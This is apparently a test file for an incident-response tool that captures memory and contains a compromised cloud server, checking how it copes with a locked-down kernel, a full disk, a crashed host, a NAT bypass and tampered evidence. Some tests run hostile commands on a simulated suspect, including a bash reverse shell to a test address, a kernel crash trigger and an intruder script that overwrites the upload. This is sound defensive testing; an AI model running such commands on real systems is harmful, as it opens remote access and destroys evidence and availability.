import { addSession, DEMO, routeTablesOf } from '@cordon/testkit';
import { describe, expect, it, onTestFinished } from 'vitest';
import { captured, DUMPING, FETCHED, once, WHOLE } from '../src/capture.ts';
import overwritePart from '../src/intruder/overwrite-part.sh';
import type { GuestScene } from '../src/scene.ts';

const DAY_MS = 86_400_000;

const run: typeof captured = async (...given) => {
  const ended = await captured(...given);
  onTestFinished(() => ended.scene.world.dispose());
  return ended;
};

type Ended = Awaited<ReturnType<typeof captured>>;
const step = ({ result }: Ended, id: string) => result.steps.find((one) => one.id === id);
const notSucceeded = ({ result }: Ended) => result.steps.filter(({ status }) => status !== 'succeeded');
const methodOf = ({ result }: Ended) =>
  (result.facts['memoryImage'] as { method?: string } | undefined)?.method;
/** What is left on the server of the dump: its removal is sent when the step fails, and not waited for. */
const left = async ({ suspect }: GuestScene) => {
  const look = 'ls -d /var/tmp/cordon-* 2>/dev/null; grep "^lime " /proc/modules';
  const { stdout } = await suspect.run(
    `for i in {1..60}; do [[ -z $(${look}) ]] && exit; sleep 0.5; done; ${look}`,
  );
  return stdout;
};

describe('an incident on a server', () => {
  it('whose kernel is locked down, whose clock is wrong by a day, on which somebody has a session', async () => {
    const boot = { append: 'lockdown=integrity lsm=lockdown,capability', clockSkewMs: -DAY_MS };
    const ended = await run({ boot, module: 'said to be signed' }, async ({ suspectRegion }) => {
      const owner = `arn:aws:iam::${DEMO.suspectAccount}:user/mallory`;
      addSession(suspectRegion, { instanceId: DEMO.instanceId, owner });
    });
    expect(notSucceeded(ended)).toEqual([]);
    expect(ended.notices).toContain('LIME_NOT_USED');
    expect(methodOf(ended)).toBe('kcore');
    expect(ended.result.facts['foreignAccess']).toMatchObject({
      sessionsEnded: [{ owner: expect.stringContaining('mallory') }],
    });
    const triage = ended.result.facts['triage'] as { readonly clockOffsetSeconds: number };
    expect(Math.abs(triage.clockOffsetSeconds + DAY_MS / 1_000)).toBeLessThan(30);
    expect(await left(ended.scene)).toBe('');
  });

  it('for whose kernel there is no module, over a slow network', async () => {
    const slow = 'tc qdisc add dev eth0 root netem rate 40mbit delay 5ms loss 0.1%';
    const ended = await run({ module: 'absent' }, async ({ suspect }) => {
      expect(await suspect.run(slow)).toMatchObject({ exitCode: 0, stderr: '' });
    });
    expect(notSucceeded(ended)).toEqual([]);
    expect(ended.notices).toContain('LIME_NOT_USED');
    expect(methodOf(ended)).toBe('kcore');
    expect(await left(ended.scene)).toBe('');
  });

  it('for whose kernel the module is another one', async () => {
    const ended = await run({ module: 'for another kernel' });
    expect(notSucceeded(ended)).toEqual([]);
    expect(ended.notices).toContain('LIME_NOT_USED');
    expect(methodOf(ended)).toBe('kcore');
    expect(await left(ended.scene)).toBe('');
  });

  /** All of the room but so much, also what is kept for root. */
  const fill = (leave: number) => `fallocate -l $(($(stat -f -c "%f * %S" /) - ${leave})) /filler`;

  it('whose disk fills up before the dump is whole', async () => {
    const ended = await run({}, ({ suspect }) => suspect.run(once(FETCHED, fill(60_000_000))));
    expect(ended.result.outcome).toBe('incomplete');
    expect(step(ended, 'contain.verify')).toMatchObject({ status: 'succeeded' });
    expect(step(ended, 'memory.lime')).toMatchObject({
      status: 'failed',
      reason: expect.stringMatching(/^DUMP_SHORT: /),
    });
    expect(ended.result.facts['memoryImage']).toBeUndefined();
    expect(await left(ended.scene)).toBe('');
  });

  /** Amazon's agent lays every script down on the disk, before it runs it. */
  it('whose disk has not a free byte from when the dump is whole: nothing can be run on it any more', async () => {
    const ended = await run({}, ({ suspect }) =>
      suspect.run(once(WHOLE, `${fill(1_000_000)}; cat /dev/zero >>/filler`)),
    );
    expect(ended.result.outcome).toBe('incomplete');
    expect(step(ended, 'contain.verify')).toMatchObject({ status: 'succeeded' });
    expect(step(ended, 'memory.lime')).toMatchObject({
      status: 'failed',
      reason: expect.stringMatching(/^UPLOAD_STUCK: .* No space left on device/),
    });
    expect(ended.result.facts['memoryImage']).toBeUndefined();
    // Its removal is a script as well.
    expect((await ended.scene.suspect.run('ls /var/tmp/cordon-*')).stdout).toContain('mem.lime');
  });

  it('whose agent ends for good during the dump', async () => {
    const ended = await run({ module: 'absent' }, ({ suspect }) =>
      suspect.run(once(DUMPING, 'systemctl stop --no-block qemu-guest-agent')),
    );
    expect(ended.result.outcome).toBe('incomplete');
    expect(step(ended, 'contain.verify')).toMatchObject({ status: 'succeeded' });
    expect(step(ended, 'memory.lime')).toMatchObject({
      status: 'failed',
      reason: expect.stringMatching(/^AGENT_SILENT: /),
    });
  });

  it('which dies during the dump', async () => {
    const ended = await run({ module: 'absent' }, ({ suspect }) =>
      suspect.run(once(DUMPING, 'echo c >/proc/sysrq-trigger')),
    );
    expect(ended.result.outcome).toBe('incomplete');
    expect(step(ended, 'contain.verify')).toMatchObject({ status: 'succeeded' });
    expect(step(ended, 'memory.lime')).toMatchObject({
      status: 'failed',
      reason: expect.stringMatching(/^AGENT_SILENT: /),
    });
  });

  it('from which a connection leads through a NAT gateway, that no group can cut', async () => {
    const ended = await run({ module: 'absent' }, async ({ world, suspectRegion, suspect, controller }) => {
      for (const table of routeTablesOf(suspectRegion).all())
        if (table.subnetIds.includes(DEMO.subnetId))
          table.routes.push({ destination: '198.18.0.0/16', target: 'nat-0123456789abcdef0' });
      controller.alsoAt(world, { address: '198.18.0.9', path: 'nat-gateway' });
      await suspect.run(
        'setsid bash -c "exec bash -i >& /dev/tcp/198.18.0.9/4444 0>&1" >/dev/null 2>&1 </dev/null & sleep 3',
      );
    });
    const { residualRisks } = ended.result.facts['containment'] as {
      residualRisks: readonly { path: string; detail: string }[];
    };
    expect(residualRisks).toContainEqual({
      path: 'tracked-connection',
      detail: expect.stringContaining('198.18.0.9 lives on by nat-gateway'),
    });
    const { controller, suspect } = ended.scene;
    const before = controller.answers;
    await suspect.run('sleep 3');
    expect(controller.answers).toBeGreaterThan(before);
  });

  it('on which the intruder overwrites a part of the upload', async () => {
    const ended = await run({ module: 'absent' }, async ({ suspect }) => {
      await suspect.exec(['/bin/sh', '-c', 'cat >/run/overwrite'], { input: overwritePart });
      await suspect.run('setsid bash /run/overwrite </dev/null >/dev/null 2>&1 &');
    });
    expect((await ended.scene.suspect.run('cat /run/overwritten')).stdout).toMatch(/^200$/m);
    expect(ended.result.outcome).toBe('incomplete');
    expect(step(ended, 'contain.verify')).toMatchObject({ status: 'succeeded' });
    expect(step(ended, 'memory.lime')).toMatchObject({
      status: 'failed',
      reason: expect.stringMatching(/^EVIDENCE_DIGEST_MISMATCH: /),
    });
    expect(ended.result.facts['memoryImage']).toBeUndefined();
  });
});
